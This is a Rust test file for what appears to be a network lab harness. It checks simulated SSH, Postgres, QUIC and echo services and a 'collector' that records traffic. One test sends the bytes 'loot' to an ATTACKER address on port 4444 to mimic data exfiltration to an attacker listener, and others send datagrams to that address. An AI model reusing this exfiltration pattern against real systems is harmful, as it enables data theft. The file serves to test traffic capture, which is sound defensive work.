//! Do the peers that are not the web say what such peers say?

use std::time::Duration;

use crate::common::{output, start};
use bottle_lab::addresses::ATTACKER;

const LIMIT: Duration = Duration::from_secs(10);

#[test]
fn an_ssh_like_server_speaks_first() {
    let lab = start();
    let script = "import socket; s=socket.create_connection(('ssh.lab.example',22),5); print(s.recv(64).decode())";
    assert!(output(lab.command("python3").args(["-c", script])).starts_with("SSH-2.0-"));
}

#[test]
fn a_postgres_like_server_refuses_tls_and_answers_a_query() {
    let lab = start();
    let script = "import socket,struct
s=socket.create_connection(('db.lab.example',5432),5); f=s.makefile('rb')
s.sendall(struct.pack('>II',8,80877103)); assert f.read(1)==b'N'
start=struct.pack('>I',196608)+b'user\\0me\\0\\0'; s.sendall(struct.pack('>I',len(start)+4)+start)
def message():
    kind=f.read(1); return kind, f.read(struct.unpack('>I',f.read(4))[0]-4)
while message()[0]!=b'Z': pass
q=b'select 1\\0'; s.sendall(b'Q'+struct.pack('>I',len(q)+4)+q)
got=[]
while True:
    kind,body=message(); got.append((kind,body))
    if kind==b'Z': break
print([body[6:] for kind,body in got if kind==b'D'][0].decode())";
    assert_eq!(output(lab.command("python3").args(["-c", script])).trim(), "lab");
}

#[test]
fn a_datagram_to_a_quic_port_is_written_down_and_not_answered() {
    let lab = start();
    let script =
        "import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'initial',(sys.argv[1],443))";
    output(lab.command("python3").args(["-c", script, &ATTACKER.to_string()]));
    let got = lab.wait_for(LIMIT, |got| got.service == "udp").unwrap();
    assert_eq!((got.to, got.head.as_slice()), ((ATTACKER, 443).into(), b"initial".as_slice()));
    let packets = lab.packets("host/eth0").unwrap();
    let answers: Vec<_> = packets.iter().filter(|packet| !packet.outgoing && !packet.is_housekeeping()).collect();
    assert!(answers.is_empty(), "{answers:?}");
}

#[test]
fn a_datagram_to_the_echo_port_comes_back() {
    let lab = start();
    let script = "import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5); s.sendto(b'back',(sys.argv[1],7)); print(s.recv(9).decode())";
    assert_eq!(output(lab.command("python3").args(["-c", script, &ATTACKER.to_string()])).trim(), "back");
}

#[test]
fn the_collector_keeps_what_it_gets_and_sees_the_end() {
    let lab = start();
    let script = "import socket,sys; s=socket.create_connection((sys.argv[1],4444),5); s.sendall(b'loot'); s.close()";
    output(lab.command("python3").args(["-c", script, &ATTACKER.to_string()]));
    let got = lab.wait_for(LIMIT, |got| got.service == "collector" && got.closed).unwrap();
    assert_eq!((got.bytes, got.head.as_slice()), (4, b"loot".as_slice()));
}
